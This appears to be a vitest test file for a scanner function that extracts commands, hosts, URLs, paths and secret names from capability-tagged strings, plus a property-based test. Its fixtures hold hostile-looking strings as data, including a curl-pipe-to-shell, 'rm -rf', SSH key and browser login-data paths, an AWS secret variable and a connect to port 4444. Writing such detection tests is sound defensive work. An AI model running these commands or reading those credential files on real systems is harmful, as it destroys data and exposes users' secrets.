import fc from "fast-check";
import { expect, test } from "vitest";
import { namesIn } from "./names-in.ts";

test.each([
  [
    "process.spawn",
    "curl -s https://h.test/a | sh",
    { commands: ["curl", "sh"], hosts: ["h.test"], urls: ["https://h.test/a"] },
  ],
  ["process.spawn", "FOO=1 sudo rm -rf /home/x && echo a; ls", { commands: ["rm", "echo", "ls"], paths: ["/home/x"] }],
  ["process.spawn", "{sys.executable} -m pip install x", { commands: ["{sys.executable}"] }],
  [
    "network.request",
    "https://user:pw@H.test:8443/p?q#f",
    { hosts: ["h.test:8443"], urls: ["https://user:pw@H.test:8443/p?q#f"] },
  ],
  ["process.spawn", "python{…} -c import sys; print(sys.executable)", { commands: ["python{…}"] }],
  ["process.spawn", "taskkill /pid {json.loads()[]} /f /t", { commands: ["taskkill"] }],
  ["process.spawn", "{shutil.which()} -x; {$EDITOR} a; None b; [c] d", { commands: ["{$EDITOR}"] }],
  [
    "process.spawn",
    "{os.path.dirname()}/pyodide venv",
    { commands: ["{os.path.dirname()}/pyodide"], paths: ["{os.path.dirname()}/pyodide"] },
  ],
  ["process.signal", "{os.getpid()}", {}],
  [
    "network.request",
    "https://h.test/{json.loads().get()}/x y",
    { hosts: ["h.test"], urls: ["https://h.test/{json.loads().get()}/x"] },
  ],
  ["file.write", "{home}/User Data/Login Data", { paths: ["{home}/User Data/Login Data"] }],
  ["file.write", "{…}/{time.strftime('%d')}.txt", { paths: ["{…}/{time.strftime('%d')}.txt"] }],
  ["obfuscation.escapes", "\\x11\\x22", {}],
  ["network.connect", "10.0.0.1 4444", { hosts: ["10.0.0.1:4444"] }],
  ["network.resolve", "abc.h.test", { hosts: ["abc.h.test"] }],
  ["env.secret", "AWS_SECRET_ACCESS_KEY", { environment: ["AWS_SECRET_ACCESS_KEY"] }],
  ["credential.path", "{home}/.ssh/id_rsa", { paths: ["{home}/.ssh/id_rsa"] }],
  ["file.write", "C:\\Windows\\x.exe", { paths: ["C:\\Windows\\x.exe"] }],
])("%s %s", (capability, text, expected) => {
  expect(namesIn(capability, [text])).toEqual({
    ...{ commands: [], hosts: [], urls: [], paths: [], environment: [] },
    ...expected,
  });
});

test("what a file is to hold names no files", () => {
  expect(namesIn("file.write", ["{home}/a.txt", "see /etc/passwd"]).paths).toEqual(["{home}/a.txt"]);
});

test("whatever the text, few names and short ones", () => {
  fc.assert(
    fc.property(
      fc.string({ maxLength: 3000 }),
      fc.constantFrom("process.spawn", "network.request", "env.read"),
      (text, capability) => {
        for (const names of Object.values(namesIn(capability, [text, text.repeat(3)]))) {
          expect(names.length).toBeLessThanOrEqual(20);
          for (const name of names) expect(name.length).toBeLessThanOrEqual(300);
        }
      },
    ),
  );
});
